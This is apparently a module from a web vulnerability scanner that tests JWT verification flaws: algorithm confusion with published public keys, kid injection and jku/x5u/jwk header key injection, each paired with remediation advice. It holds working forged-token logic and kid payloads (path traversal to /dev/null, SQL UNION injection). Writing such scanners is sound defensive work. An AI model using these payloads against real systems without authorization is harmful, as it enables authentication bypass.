"""Keys a token can pick for itself (CWE-347): algorithm confusion with the published
public key, ``kid`` injection, and keys brought by the header (``jku``, ``x5u``, ``jwk``).

Each check sends the scanner's own claims under a header it controls. A control token
with the same header and a random key comes first: when even that is accepted the server
checks no signature at all (``jwt.signature_not_verified`` says so). The attack is still
run and reported when it works, since the target does accept it, but with tentative
confidence and ``random_key_accepted`` in the evidence: the root cause may be the missing
signature check alone, and fixing that is the first step.
"""

from __future__ import annotations

import asyncio
import json
import secrets
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed448, ed25519, rsa

from dynaguard.scan.checks.jwt_tokens import judged_at, own_token, token_accepted
from dynaguard.scan.checks.registry import Outcome, check, failed, passed
from dynaguard.scan.context import CheckContext
from dynaguard.scan.errors import Skip
from dynaguard.scan.findings import Confidence, Severity
from dynaguard.scan.http import origin_of
from dynaguard.scan.jwtkit import Jwt, hmac_token
from dynaguard.scan.keyhost import KeyHost, ScannerKey
from dynaguard.scan.prerequisites import Prerequisite
from dynaguard.scan.session import Credential, json_or_none

__all__ = ["key_encodings", "published_keys"]

JWKS_PATHS = ("/.well-known/jwks.json", "/jwks.json", "/.well-known/jwks")
OIDC_PATH = "/.well-known/openid-configuration"
SPEC_HINTS = ("jwks", "/keys", "/certs")
MAX_KEYS = 8
KID_PROBES: tuple[tuple[str, str, bytes], ...] = (
    ("path traversal to /dev/null, empty key", "../" * 12 + "dev/null", b""),
    ("absolute path /dev/null, empty key", "/dev/null", b""),
    ("SQL injection selecting a known key", "dgscan' UNION SELECT 'dgscan-kid-key' -- ",
     b"dgscan-kid-key"),
    ("SQL injection without quotes", "0 UNION SELECT 'dgscan-kid-key'", b"dgscan-kid-key"),
)


def _claims(token: Jwt, tag: str) -> dict[str, Any]:
    return {**token.claims, "jti": f"dgscan-{tag}"}


async def _signature_ignored(ctx: CheckContext, credential: Credential, token: Jwt,
                             header: dict[str, Any]) -> bool:
    """Is a token under ``header`` accepted even with a random HMAC key?"""
    control = hmac_token({**header, "typ": "JWT"}, _claims(token, "control"),
                         secrets.token_bytes(32))
    return await token_accepted(ctx, credential, control)


MASKED = ("; a token under a random key was accepted too, so this may be the missing "
          "signature check alone")


def _confidence(masked: bool) -> Confidence:
    return Confidence.TENTATIVE if masked else Confidence.CERTAIN


async def _json(ctx: CheckContext, path: str) -> Any:
    response = await ctx.http.request("GET", path)
    return json_or_none(response) if response.is_success else None


async def published_keys(ctx: CheckContext) -> list[tuple[str, dict[str, Any]]]:
    """``(where, jwk)`` for the public keys the target publishes: its JWKS at the usual
    paths, the ``jwks_uri`` of its OpenID configuration (on the target only), and JWKS-like
    operations of its OpenAPI spec."""
    paths = list(JWKS_PATHS)
    config = await _json(ctx, OIDC_PATH)
    if isinstance(config, dict) and isinstance(config.get("jwks_uri"), str):
        uri = config["jwks_uri"]
        if origin_of(ctx.http.url(uri)) == origin_of(ctx.http.target):
            paths.insert(0, uri)
    paths += [op.path for op in ctx.surface.operations
              if op.method == "GET" and "{" not in op.path
              and any(hint in op.path.lower() for hint in SPEC_HINTS)]
    found: list[tuple[str, dict[str, Any]]] = []
    seen: set[str] = set()
    for path in dict.fromkeys(paths):
        document = await _json(ctx, path)
        keys = document.get("keys") if isinstance(document, dict) else None
        for jwk in keys if isinstance(keys, list) else []:
            text = json.dumps(jwk, sort_keys=True)
            if isinstance(jwk, dict) and "kty" in jwk and text not in seen:
                seen.add(text)
                found.append((path, jwk))
    return found[:MAX_KEYS]


def key_encodings(jwk: dict[str, Any]) -> dict[str, bytes]:
    """The byte strings a confused verifier may use as HMAC secret for this public key."""
    try:
        public = jwt.PyJWK(jwk).key
    except (jwt.PyJWTError, ValueError, TypeError, KeyError):
        return {}
    enc, fmt = serialization.Encoding, serialization.PublicFormat
    spki = public.public_bytes(enc.PEM, fmt.SubjectPublicKeyInfo)
    forms: dict[str, bytes] = {
        "PEM (SubjectPublicKeyInfo)": spki,
        "PEM without final newline": spki.rstrip(b"\n"),
        "DER (SubjectPublicKeyInfo)": public.public_bytes(enc.DER, fmt.SubjectPublicKeyInfo),
    }
    if isinstance(public, rsa.RSAPublicKey):
        forms["PEM (PKCS#1)"] = public.public_bytes(enc.PEM, fmt.PKCS1)
        forms["DER (PKCS#1)"] = public.public_bytes(enc.DER, fmt.PKCS1)
    elif isinstance(public, ec.EllipticCurvePublicKey):
        forms["X9.62 uncompressed point"] = public.public_bytes(enc.X962,
                                                                fmt.UncompressedPoint)
    elif isinstance(public, ed25519.Ed25519PublicKey | ed448.Ed448PublicKey):
        forms["raw public key"] = public.public_bytes(enc.Raw, fmt.Raw)
    forms["JWK JSON"] = json.dumps(jwk).encode()
    return forms


@check("jwt.alg_confusion", title="Algorithm confusion: public key accepted as HMAC secret",
       cwe=(347,), severity=Severity.CRITICAL, order=41, remediation=(
           "Fix the algorithm per key on the server (`jwt.decode(token, key, "
           "algorithms=[\"ES256\"])` with the one algorithm of that key); never take it from "
           "the token's `alg` header, and never let an asymmetric key reach an HMAC verifier."))
async def alg_confusion(ctx: CheckContext) -> Outcome:
    credential, token = await own_token(ctx)
    keys = await published_keys(ctx)
    if not keys:
        # An HMAC-signed token and no public key anywhere: there is no key to confuse.
        raise Skip("no public key published (JWKS, OpenID configuration or spec)",
                   needs=Prerequisite.NOT_APPLICABLE if token.alg.startswith("HS")
                   else Prerequisite.PUBLIC_KEY)
    probe_header = {"typ": "JWT", **({"kid": keys[0][1]["kid"]} if "kid" in keys[0][1] else {})}
    masked = await _signature_ignored(ctx, credential, token, probe_header)
    tried = 0
    for where, jwk in keys:
        header = {"typ": "JWT", **({"kid": jwk["kid"]} if "kid" in jwk else {})}
        for form, secret in key_encodings(jwk).items():
            tried += 1
            probe = hmac_token(header, _claims(token, "confusion"), secret)
            if await token_accepted(ctx, credential, probe):
                me = await judged_at(ctx)
                return failed("an HS256 token keyed with the published public key was "
                              "accepted" + (MASKED if masked else ""), ctx.finding(me, {
                                  "key_source": where, "kid": jwk.get("kid"),
                                  "kty": jwk.get("kty"), "hmac_secret_form": form,
                                  "original_alg": token.alg, "random_key_accepted": masked},
                                  confidence=_confidence(masked)))
    return passed(f"{tried} HS256 tokens keyed with {len(keys)} published public key(s) "
                  "refused")


@check("jwt.kid_injection", title="Token key id (kid) injection accepted", cwe=(347,),
       severity=Severity.CRITICAL, order=41, remediation=(
           "Treat `kid` as a name to look up in a fixed table of the server's keys; refuse "
           "unknown ids, and never build a file path, SQL query or command from it."))
async def kid_injection(ctx: CheckContext) -> Outcome:
    credential, token = await own_token(ctx)
    masked = await _signature_ignored(ctx, credential, token, {"kid": KID_PROBES[0][1]})
    accepted = [name for name, kid, key in KID_PROBES
                if await token_accepted(ctx, credential, hmac_token(
                    {"typ": "JWT", "kid": kid}, _claims(token, "kid"), key))]
    if accepted:
        me = await judged_at(ctx)
        return failed("tokens whose kid points at a key the scanner knows were accepted"
                      + (MASKED if masked else ""),
                      ctx.finding(me, {"accepted": accepted, "alg": "HS256",
                                             "random_key_accepted": masked},
                                  confidence=_confidence(masked)))
    return passed(f"{len(KID_PROBES)} kid injections (path traversal, SQL) refused")


async def _header_probes(ctx: CheckContext, credential: Credential, token: Jwt,
                         key: ScannerKey, host: KeyHost) -> dict[str, bool]:
    claims = _claims(token, "header-key")
    probes = {
        "jku": key.sign(claims, {"kid": key.kid, "jku": host.url("/jku/jwks.json")}),
        "x5u": key.sign(claims, {"x5u": host.url("/x5u/cert.pem")}),
        "embedded jwk": key.sign(claims, {"jwk": key.jwk}),
    }
    return {name: await token_accepted(ctx, credential, probe)
            for name, probe in probes.items()}


@check("jwt.header_key_injection", title="Token signed with a key named by its own header "
       "(jku / x5u / jwk) accepted", cwe=(347,), severity=Severity.CRITICAL, order=41,
       remediation=(
           "Take verification keys from configuration only (the issuer's JWKS URL, fixed on "
           "the server); ignore `jku`, `x5u` and `jwk` headers, and never fetch a URL a token "
           "names."))
async def header_key_injection(ctx: CheckContext) -> Outcome:
    credential, token = await own_token(ctx)
    key = await asyncio.to_thread(ScannerKey.generate)
    documents = {
        "/jku/jwks.json": ("application/json", json.dumps({"keys": [key.jwk]}).encode()),
        "/x5u/cert.pem": ("application/x-pem-file", key.certificate_pem()),
        "/ready": ("text/plain", b"ok"),
    }
    async with KeyHost(documents) as host:
        with ctx.http.allowing(host.base_url):  # the scanner's own helper, for this check
            if not (await ctx.http.request("GET", host.url("/ready"))).is_success:
                raise Skip("the scanner's loopback key host did not answer",
                           needs=Prerequisite.UNSPECIFIED)
            control = {"kid": key.kid, "jku": host.url("/jku/jwks.json")}
            masked = await _signature_ignored(ctx, credential, token, control)
            host.fetched.clear()
            accepted = await _header_probes(ctx, credential, token, key, host)
            fetched = {"jku": "/jku/jwks.json" in host.fetched,
                       "x5u": "/x5u/cert.pem" in host.fetched}
    me = await judged_at(ctx)
    evidence = {"accepted": [name for name, ok in accepted.items() if ok],
                "target_fetched": fetched, "key_host": "scanner loopback (127.0.0.1)",
                "alg": "RS256", "random_key_accepted": masked}
    if any(accepted.values()):
        # A target that fetched the key it was pointed at follows the header, whatever
        # else it fails to check.
        confidence = (Confidence.FIRM if masked and any(fetched.values())
                      else _confidence(masked))
        return failed("tokens signed with the scanner's key were accepted because their "
                      "header named it" + (MASKED if masked else ""),
                      ctx.finding(me, evidence, confidence=confidence))
    if any(fetched.values()):
        return failed("the target fetched key URLs named by a token header (refused the "
                      "tokens)", ctx.finding(me, evidence, severity=Severity.LOW,
                                             title="Target fetches key URLs named by token "
                                                   "headers"))
    return passed("jku, x5u and embedded jwk tokens refused; no key URL fetched")
